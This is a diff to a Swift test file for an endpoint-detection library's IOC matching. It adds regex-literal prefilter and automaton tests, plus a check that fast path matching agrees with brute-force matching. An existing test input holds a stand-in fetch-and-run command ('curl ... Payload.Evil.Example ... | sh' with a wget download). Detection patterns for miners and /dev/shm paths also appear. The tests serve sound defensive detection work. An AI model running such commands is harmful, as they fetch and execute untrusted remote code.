@@ -1,6 +1,7 @@
 import EDRCore
 import Foundation
 import Testing
+import CPCRE2
 @testable import EDRIOC
 
 /// Repository root, found from this file's path (tests run from a symlinked dev package too).
@@ -167,6 +168,32 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
     }
 }
 
+@Suite struct RegexLiterals {
+    @Test func requiredLiterals() {
+        func lit(_ p: String) -> String? { RegexLiteral.required(p).map { String(decoding: $0, as: UTF8.self) } }
+        #expect(lit(#"\\usbclass\.sys"#) == #"\usbclass.sys"#)
+        #expect(lit("^/dev/shm/[^/]+$") == "/dev/shm/")
+        #expect(lit("(?i)/XMRig[^/]*$") == "/xmrig")
+        #expect(lit("abc?def") == "def")
+        #expect(lit("ab+cd") == "ab")
+        #expect(lit("x{0,3}yz") == "yz")
+        #expect(lit("foo|bar") == nil)
+        #expect(lit("(foo|bar)baz") == "baz")
+        #expect(lit(#"\x41\x42"#) == nil)
+        #expect(lit(#"\d+\.exe"#) == ".exe")
+        #expect(lit("(?x) a b c") == nil)
+        #expect(lit("[abc]") == nil)
+    }
+
+    @Test func automatonFindsAllLiterals() {
+        let a = LiteralAutomaton([(Array("he".utf8), 0), (Array("she".utf8), 1), (Array("his".utf8), 2), (Array("hers".utf8), 3)])
+        var found: [Int] = []
+        var s = "USHERS"
+        s.withUTF8 { b in a.scan(b) { found.append($0) } }
+        #expect(found.sorted() == [0, 1, 3])
+    }
+}
+
 @Suite struct CommandLineHosts {
     @Test func extractsURLsHostsAndLiterals() {
         let t = IOCSet.networkTokens(in: #"curl -fsSL "https://Payload.Evil.Example:8443/x.sh?a=1" | sh; wget http://198.51.100.23/a -O /tmp/a"#)
@@ -314,5 +341,33 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
         #expect(r.set.matchIP("58.64.143.244") != nil)
         #expect(r.set.matchHash("ce583821191345274cd954b2db7da9742c239fe413fc17dcb97ffdd7b51cb072")?.label == "Dark Caracal - MS Windows HtmlHelp Data")
         #expect(!r.set.matchPath(#"C:\Windows\System32\drivers\usbclass.sys"#).isEmpty)
+    }
+
+    /// The prefilters never change the answer: compare with every pattern run one by one.
+    @Test(.enabled(if: FileManager.default.fileExists(atPath: signatureBaseIOCs)))
+    func prefilteredPathMatchingEqualsBruteForce() throws {
+        let set = IOCSet.load(directory: signatureBaseIOCs).set
+        let entries = set.paths.entries
+        var paths = ["/usr/bin/bash", "/tmp/x.sh", #"C:\Windows\System32\svchost.exe"#, "/dev/shm/kworker", ""]
+        for (i, e) in entries.enumerated() where i % 7 == 0 {
+            if let lit = RegexLiteral.required(e.pattern.source) {
+                let l = String(decoding: lit, as: UTF8.self)
+                paths.append(#"C:\Users\bob\AppData\Local\Temp"# + l)
+                paths.append(#"C:\Windows\System32\"# + l.uppercased() + ".exe")
+            }
+        }
+        let md = try #require(pcre2_match_data_create_8(1, nil))
+        defer { pcre2_match_data_free_8(md) }
+        var hits = 0
+        for p in paths {
+            var q = p
+            let brute: [String] = q.withUTF8 { b in
+                entries.filter { $0.pattern.matches(b, md) && !($0.exclude?.matches(b, md) ?? false) }.map(\.pattern.source)
+            }
+            let fast = set.matchPath(p).map(\.indicator)
+            #expect(fast == brute, "\(p)")
+            hits += fast.count
+        }
+        #expect(hits > 100)
     }
 }
